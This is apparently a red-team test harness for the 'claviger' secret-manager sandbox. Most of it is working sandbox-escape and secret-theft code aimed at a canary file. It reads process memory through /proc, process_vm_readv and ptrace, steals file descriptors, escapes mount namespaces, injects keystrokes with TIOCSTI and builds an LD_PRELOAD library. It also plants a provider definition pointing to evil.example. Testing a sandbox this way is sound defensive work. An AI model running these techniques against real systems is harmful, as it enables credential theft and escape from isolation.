"""A hostile program under `claviger run` (G5): tries each way it knows to a secret or to power over a process outside, and
prints one JSON object {technique: what it got}. Nothing but Python's standard library and what a machine has anyway.
RT names what is where, as a program that knows its victim would."""
import array, base64, ctypes, ctypes.util, fcntl, json, os, pathlib, re, resource, shutil, signal, socket, struct, subprocess, sys, tempfile, termios

RT = json.loads(os.environ["RT"])
HOME, BROKER, OUTSIDE, PROGRAM = RT["home"], os.getppid(), RT["outside"], RT["program"]
CANARY = f"{HOME}/canary"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SHAPE = re.compile(rb"CANARY-[A-Za-z0-9_-]{20,}|claviger-key[^\n]{10,200}")
TECHNIQUES = {}


def technique(function):
    TECHNIQUES[function.__name__] = function
    return function


def read(path, size=1 << 20):
    with open(path, "rb") as file:
        return file.read(size)


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def shell(*command, **more):
    done = subprocess.run(command, capture_output=True, timeout=20, stdin=subprocess.DEVNULL, **more)
    return done.stdout + done.stderr


def in_child(body):
    """What `body` returns, from a process that may die of it."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(writing, body() or b"")
        except BaseException:
            pass
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as file:
        out = file.read()
    os.waitpid(pid, 0)
    return out


# -- what was inherited, before anything else is opened -----------------------------------------------------------------
@technique
def inherited_descriptors():
    got = b""
    for fd in os.listdir("/proc/self/fd"):
        target = os.readlink(f"/proc/self/fd/{fd}") if os.path.islink(f"/proc/self/fd/{fd}") else ""
        if int(fd) > 2 and target and not target.startswith("/proc/") and "redteam" not in target:
            got += b"REACHED " + target.encode()
    return got


# -- the files -------------------------------------------------------------------------------------------------------
@technique
def read_by_path(): return read(CANARY)
@technique
def read_the_key_file(): return b"".join(read(p) for p in pathlib.Path(HOME).glob("*.key"))
@technique
def read_the_vault(): return b"REACHED" if b"SQLite format" in read(f"{HOME}/vault.db") else b""
@technique
def read_the_providers(): return read(f"{HOME}/providers/acme.json") and b"REACHED"
@technique
def read_another_home_of_the_user(): return read(RT["other_home"] + "/canary")
@technique
def read_through_self_root(): return read(f"/proc/self/root{CANARY}")
@technique
def read_through_cwd_and_dots(): return read(f"{HOME}/../x/../{os.path.basename(HOME)}/canary") if os.path.isdir(f"{HOME}/../x") else read(f"{HOME}/../{os.path.basename(HOME)}/canary")
@technique
def read_through_a_symlink():
    link = tempfile.mktemp()
    os.symlink(HOME, link)
    return read(link + "/canary")
@technique
def read_through_a_hard_link():
    link = tempfile.mktemp(dir=RT["work"])
    os.link(CANARY, link)
    return read(link)
@technique
def read_through_another_mount(): return read(RT["alias"] + "/canary")
@technique
def read_after_moving_the_directory():
    os.rename(HOME, HOME + ".moved")
    try:
        return read(HOME + ".moved/canary")
    finally:
        os.rename(HOME + ".moved", HOME)
@technique
def read_through_a_handle_given_from_outside():
    mount = os.open(RT["work"], os.O_RDONLY)
    handle = ctypes.create_string_buffer(base64.b64decode(RT["handle"]))
    return os.read(call(304, mount, handle, os.O_RDONLY), 4096)
@technique
def read_through_a_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
    mount_id = ctypes.c_int()
    call(303, -100, ctypes.c_char_p(CANARY.encode()), handle, ctypes.byref(mount_id), 0)
    return os.read(call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY), 4096)
@technique
def overwrite_the_vault():
    with open(f"{HOME}/canary", "r+b"):
        return b"REACHED"
@technique
def plant_a_definition():
    path = f"{HOME}/providers/evil.json"
    with open(path, "w"):
        os.unlink(path)
        return b"REACHED"


# -- the broker, and another process of the same user -----------------------------------------------------------------
def define(prefix, pid):
    def make(name, body):
        body.__name__ = f"{prefix}_{name}"
        TECHNIQUES[body.__name__] = body
    def descriptors():
        got = b""
        for fd in os.listdir(f"/proc/{pid}/fd"):
            if os.path.isfile(f"/proc/{pid}/fd/{fd}"):
                got += read(f"/proc/{pid}/fd/{fd}", 4096)
        return got
    def memory():
        got = b""
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for line in read(f"/proc/{pid}/maps").decode().splitlines():
                span, mode = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if mode.startswith("rw") and end - start < 1 << 26:
                    try:
                        file.seek(start)
                        got += b"\n".join(SHAPE.findall(file.read(end - start)))
                    except OSError:
                        pass
        return got
    def vm_readv():
        class Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        buffer = ctypes.create_string_buffer(64)
        ours, theirs = Iovec(ctypes.addressof(buffer), 64), Iovec(RT["address"], 64)
        call(310, pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        return buffer.raw
    def attach():
        def body():
            if libc.ptrace(16, pid, None, None) != 0:
                return b""
            os.waitpid(pid, 0x40000000)
            libc.ptrace(17, pid, None, None)
            return b"REACHED"
        return in_child(body)
    def take_descriptor():
        handle = os.pidfd_open(pid)
        for fd in range(3, 40):
            try:
                taken = call(438, handle, fd, 0)
            except OSError as error:
                if error.errno == 9:
                    continue
                raise
            try:
                return os.pread(taken, 4096, 0)
            except OSError:
                pass
    def enter():
        return in_child(lambda: (call(308, os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), 0), read(CANARY))[1])
    make("root", lambda: read(f"/proc/{pid}/root{CANARY}"))
    make("task_root", lambda: read(f"/proc/{pid}/task/{pid}/root{CANARY}"))
    make("cwd", lambda: read(f"/proc/{pid}/cwd/{os.path.relpath(CANARY, RT['start'])}"))
    make("environment", lambda: read(f"/proc/{pid}/environ"))
    make("descriptors", descriptors)
    make("maps", lambda: read(f"/proc/{pid}/maps") and b"REACHED")
    make("memory", memory)
    make("process_vm_readv", vm_readv)
    make("ptrace", attach)
    make("take_descriptor", take_descriptor)
    make("signal", lambda: os.kill(pid, 0) or b"REACHED")
    make("enter_namespace", enter)
    make("nsenter", lambda: shell("nsenter", "-t", str(pid), "-m", "cat", CANARY))
    make("gdb", lambda: shell("gdb", "-batch", "-nx", "-p", str(pid), "-ex", f"x/s {RT['address']}"))
    make("chroot", lambda: in_child(lambda: (os.chroot(f"/proc/{pid}/root"), read(CANARY))[1]))
    make("kcmp", lambda: call(312, pid, pid, 2, 0, 0) or b"REACHED")


define("broker", BROKER)
define("outside", OUTSIDE)
define("init", 1)


# -- mounts ----------------------------------------------------------------------------------------------------------
@technique
def uncover(): return libc.umount2(HOME.encode(), 0) == 0 and read(CANARY)
@technique
def uncover_lazily(): return libc.umount2(HOME.encode(), 2) == 0 and read(CANARY)
@technique
def uncover_in_a_nested_namespace(): return shell("unshare", "-Urm", "sh", "-c", f"umount -l {HOME}; cat {CANARY}")
@technique
def bind_what_is_below(): return shell("unshare", "-Urm", "sh", "-c", f"mount --bind {os.path.dirname(HOME)} {RT['work']} && cat {RT['work']}/{os.path.basename(HOME)}/canary")
@technique
def bind_without_a_nested_namespace(): return shell("sh", "-c", f"mount --bind {os.path.dirname(HOME)} {RT['empty']} && cat {RT['empty']}/{os.path.basename(HOME)}/canary; umount {RT['empty']}")
@technique
def overlay_what_is_below(): return shell("unshare", "-Urm", "sh", "-c", f"mount -t overlay o -o lowerdir={os.path.dirname(HOME)}:{RT['empty']} {RT['empty']} && cat {RT['empty']}/{os.path.basename(HOME)}/canary")
def clone_tree(path):
    tree = call(428, -100, ctypes.c_char_p(path.encode()), 1 | os.O_CLOEXEC)
    return os.read(os.open(os.path.relpath(CANARY, path), os.O_RDONLY, dir_fd=tree), 4096)
@technique
def clone_the_mount(): return clone_tree("/")
@technique
def clone_the_mount_by_the_newer_call():
    tree = call(467, -100, ctypes.c_char_p(b"/"), 1 | os.O_CLOEXEC, None, 0)
    return os.read(os.open(os.path.relpath(CANARY, "/"), os.O_RDONLY, dir_fd=tree), 4096)
@technique
def clone_the_mount_in_a_nested_namespace():
    return in_child(lambda: (libc.unshare(0x10020000), clone_tree("/"))[1])
@technique
def fresh_proc_in_nested_namespaces(): return shell("unshare", "-Urmpf", "--mount-proc", "cat", f"/proc/1/root{CANARY}")
@technique
def pivot_root(): return shell("unshare", "-Urm", "sh", "-c", f"cd / && pivot_root . . && cat {CANARY}")
@technique
def chroot_with_open_directory():
    return in_child(lambda: (os.mkdir(RT["work"] + "/jail"), os.chroot(RT["work"] + "/jail"), [os.chdir("..") for _ in range(9)], os.chroot("."), read(CANARY))[-1])


# -- asking somebody else ---------------------------------------------------------------------------------------------
def ask(family_address):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        connection.connect(family_address)
        return connection.recv(4096)
@technique
def abstract_socket(): return ask("\0" + RT["abstract"])
@technique
def message_bus(): return ask(RT["runtime"] + "/bus")
@technique
def message_bus_by_its_variable(): return ask(os.environ["DBUS_SESSION_BUS_ADDRESS"].split("=", 1)[1])
@technique
def service_manager(): return ask(RT["runtime"] + "/systemd/private")
@technique
def unknown_service_in_the_runtime_directory(): return ask(RT["runtime"] + "/editor.sock")
@technique
def container_engine(): return ask(RT["engine"])
@technique
def terminal_multiplexer():
    leak = RT["work"] + "/from-tmux"
    shell("tmux", "-S", RT["tmux"], "run-shell", f"cat {CANARY} > {leak}")
    return read(leak)
@technique
def type_into_the_terminal():
    def body():
        os.setsid()
        master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
        return b"REACHED"
    return in_child(body)


# -- Claviger itself --------------------------------------------------------------------------------------------------
def ourselves(*arguments, **variables):
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("CLAVIGER_", "XDG_DATA_HOME"))}
    return shell(PROGRAM, *arguments, env={**environment, "HOME": RT["user"], **variables})
@technique
def show_secret(): return shell(PROGRAM, "get", "acme", "--show-secret", env={**os.environ, "CLAVIGER_HOME": HOME})
@technique
def show_secret_without_the_variable(): return ourselves("get", "acme", "--show-secret")
@technique
def show_secret_by_another_spelling(): return ourselves("get", "acme", "--show-secret", CLAVIGER_HOME=f"/proc/self/root{HOME}/../{os.path.basename(HOME)}")
@technique
def export(): return ourselves("export", "acme", "--format", "env", CLAVIGER_HOME=HOME)
@technique
def export_by_the_users_home(): return ourselves("export", "acme", "--format", "env")
@technique
def backup():
    reading, writing = os.pipe()
    os.write(writing, b"a long passphrase\n")
    os.close(writing)
    out = RT["work"] + "/backup.age"
    subprocess.run(
        [PROGRAM, "vault", "backup", out, "--backup-passphrase-fd", str(reading)], pass_fds=[reading], capture_output=True, timeout=60,
        env={"PATH": os.environ["PATH"], "HOME": RT["user"], "CLAVIGER_HOME": HOME})
    return os.path.exists(out) and b"REACHED"
# A provider of its own in place of the user's: the next login, or the next session, would serve the attacker.
EVIL = {"schema_version": 1, "name": "acme", "display_name": "Acme", "auth_type": "api_key", "flow": "api_key", "api_url": "evil.example", "api_key": {"header_name": "X-Key"}}
def manages(*arguments, stdin="", **variables):
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("CLAVIGER_", "XDG_DATA_HOME"))}
    done = subprocess.run([PROGRAM, *arguments], input=stdin.encode(), capture_output=True, timeout=60, env={**environment, "HOME": RT["user"], **variables})
    return done.returncode == 0 and b"REACHED"
def shadow(**members):
    path = tempfile.mktemp(dir=RT["work"], suffix=".json")
    with open(path, "w") as file:
        json.dump({**EVIL, **members}, file)
    return path
def last(function):  # at L0 these change what the others look at
    function.last = True
    return technique(function)
@last
def shadow_by_register(): return manages("register", shadow(), "--yes", "--force", CLAVIGER_HOME=HOME)
@last
def shadow_by_register_in_the_users_home(): return manages("register", shadow(), "--yes", "--force")
@last
def shadow_by_register_with_another_spelling(): return manages("register", shadow(), "--yes", "--force", CLAVIGER_HOME=f"/proc/self/root{HOME}/../{os.path.basename(HOME)}")
@last
def shadow_under_another_name(): return manages("register", shadow(name="acme2", api_url="api.acme.com"), "--yes", CLAVIGER_HOME=HOME)
@last
def shadow_by_a_file_of_definitions():
    with open(f"{HOME}/providers/acme.json", "r+") as file:
        text = json.dumps({**json.load(file), **EVIL})
        file.seek(0)
        file.write(text)
        file.truncate()
    return b"REACHED"
@last
def shadow_in_another_home_of_the_user():
    shutil.copy(shadow(), RT["other_home"] + "/providers/acme.json")
    return b"REACHED"
@last
def shadow_confirmed(): return manages("confirm", "acme", "--yes", CLAVIGER_HOME=HOME)
@last
def login_with_a_key_of_the_attackers(): return manages("login", "acme", "--force", "--input", "stdin", stdin="a-key-of-the-attackers", CLAVIGER_HOME=HOME)
@technique
def preload_into_claviger():
    source, library = RT["work"] + "/evil.c", RT["work"] + "/evil.so"
    with open(source, "w") as file:
        file.write('#include <stdio.h>\n__attribute__((constructor)) static void f(void){char b[200]={0};FILE*i=fopen("%s","r");if(i){fread(b,1,199,i);puts(b);}}\n' % CANARY)
    shell("cc", "-shared", "-fPIC", "-o", library, source)
    return ourselves("version", LD_PRELOAD=library)
@technique
def run_again_without_sandbox(): return ourselves("run", "--no-sandbox", "--", "cat", CANARY)


# -- what was inherited, and the kernel -------------------------------------------------------------------------------
@technique
def own_environment(): return "\n".join(f"{k}={v}" for k, v in os.environ.items() if k not in ("RT",)).encode()
@technique
def io_uring(): return call(425, 4, ctypes.create_string_buffer(120)) and b"REACHED"
@technique
def session_keyring(): return call(250, 0, -3, 0) and b"REACHED"
@technique
def performance_events(): return call(298, ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + b"\0" * 96), 0, -1, -1, 0) and b"REACHED"
@technique
def kernel_program(): return in_child(lambda: call(321, 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + b"\0" * 104), 120) and b"REACHED")
@technique
def other_numbers_for_the_same_calls():
    # x32: the same calls with bit 30 set; where the kernel has them they reach what the filter forbids.
    return in_child(lambda: b"REACHED" if libc.ptrace and call(0x40000000 | 101, 16, OUTSIDE, 0, 0) == 0 else b"")
@technique
def core_file():
    path = RT["start"] + "/core"
    try:
        resource.prlimit(BROKER, resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    except (OSError, ValueError):
        pass
    return os.path.exists(path) and read(path)


def main():
    report = {}
    chosen = sys.argv[1:]
    for name, function in sorted(TECHNIQUES.items(), key=lambda item: hasattr(item[1], "last")):
        if chosen and name not in chosen:
            continue
        try:
            got = function() or b""
        except BaseException as error:
            got = b""
            if os.environ.get("RT_WHY"):
                print(f"{name}: {type(error).__name__}: {error}", file=sys.stderr)
        found = sorted({m.decode(errors="replace") for m in SHAPE.findall(got)})
        if got.startswith(b"REACHED"):
            found.append("REACHED")
        report[name] = found
    print(json.dumps(report))


main()
